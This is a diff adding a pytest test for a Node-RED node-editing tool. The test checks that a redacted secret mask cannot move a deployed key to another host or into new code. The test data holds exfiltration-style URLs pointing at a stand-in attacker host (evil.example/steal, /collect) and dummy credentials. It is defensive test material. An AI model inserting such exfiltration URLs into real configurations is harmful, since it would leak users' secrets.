@@ -91,6 +91,39 @@ def test_a_kept_mask_is_written_as_the_deployed_secret_and_a_mask_standing_for_n
         assert refused.value.code == "invalid_params" and REDACTED in refused.value.message
 
 
+def test_a_kept_mask_cannot_carry_the_deployed_secret_to_another_host_or_place():
+    """Found by an outside try (issue 29): the card showed ``https://evil.example/steal?k=[redacted]`` and the
+    deployed key went to evil.example. A mask keeps its secret only where it was: the same host inside a URL (user
+    info included), the same text before it elsewhere; the new code around a key kept in place is on the card."""
+    key = "Zx8Kq2Lm9Pr4Tv7Wy1Bn3Cd6FgHj"
+    flows = [{"id": "t1", "type": "tab", "label": "Weather"},
+             {"id": "h1", "type": "http request", "z": "t1", "wires": [[]],
+              "url": f"https://api.example.com/v1/now?token={DEPLOYED_TOKEN}"},
+             {"id": "h2", "type": "http request", "z": "t1", "wires": [[]],
+              "url": "https://reader:P4ss!w0rd9x@db.example/records"},
+             {"id": "f1", "type": "function", "z": "t1", "wires": [[]], "func": f'const key = "{key}";\nreturn msg;'}]
+    moved = [("h1", "url", f"https://evil.example/steal?k={REDACTED}"),
+             ("h1", "url", f"https://api.example.com.evil.example/now?token={REDACTED}"),
+             ("h2", "url", f"https://reader:{REDACTED}@evil.example/records"),
+             ("f1", "func", f'msg.url = "https://evil.example/collect?x={REDACTED}";\nreturn msg;'),
+             ("f1", "func", f'const leak = "{REDACTED}";\nreturn msg;')]
+    for node_id, name, value in moved:
+        with pytest.raises(ToolFailure) as refused:
+            write_tools.plan_update_node(flows, node_id, {name: value})
+        assert refused.value.code == "invalid_params" and "same place" in refused.value.message, value
+    # Kept where it was: another path or page on the same host, another path behind the same user info.
+    kept = [("h1", "url", f"https://api.example.com/v2/now?token={REDACTED}&page=3",
+             f"https://api.example.com/v2/now?token={DEPLOYED_TOKEN}&page=3"),
+            ("h2", "url", f"https://reader:{REDACTED}@db.example/archive",
+             "https://reader:P4ss!w0rd9x@db.example/archive"),
+            ("f1", "func", f'const key = "{REDACTED}";\nmsg.topic = "now";\nreturn msg;',
+             f'const key = "{key}";\nmsg.topic = "now";\nreturn msg;')]
+    for node_id, name, value, written in kept:
+        change = write_tools.plan_update_node(flows, node_id, {name: value})
+        assert next(n for n in change.flows if n["id"] == node_id)[name] == written
+        assert change.preview()["diff"]["changed"][0]["properties"][name]["after"] == value
+
+
 async def test_a_new_secret_looking_value_is_shown_in_full_with_a_warning_and_deployed_as_shown(
         service, writable_nodered, model, write_settings):
     function = node_of(deployed(writable_nodered)["flows"], "function")
